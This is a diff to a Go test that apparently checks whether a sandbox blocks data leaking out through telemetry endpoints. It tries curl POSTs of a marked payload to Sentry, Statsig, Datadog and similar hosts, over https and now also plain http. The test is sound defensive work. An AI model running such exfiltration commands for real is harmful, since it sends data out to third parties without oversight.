@@ -124,7 +124,7 @@ func TestEscapeTelemetry(t *testing.T) {
 		a, z := newWorldArena(t)
 		a.escape(t, a.s, "EXF-10", a.works, func(x *line) {
 			for _, host := range []string{"o1.ingest.sentry.io", "statsig.anthropic.com", "telemetry.nextjs.org", "browser-intake-datadoghq.com", "events.statsigapi.net", "play.googleapis.com"} {
-				for _, at := range everyWay("curl -sS -d '{\"crash\":\"MARK\"}' https://" + host + "/MARK") {
+				for _, at := range everyWay("curl -sS -d '{\"crash\":\"MARK\"}' https://"+host+"/MARK", "curl -sS -d '{\"crash\":\"MARK\"}' http://"+host+"/MARK") {
 					x.try(at.way, at.what, func(mark string) string { return at.do(a, mark) })
 				}
 				if z.wasAsked(host) {
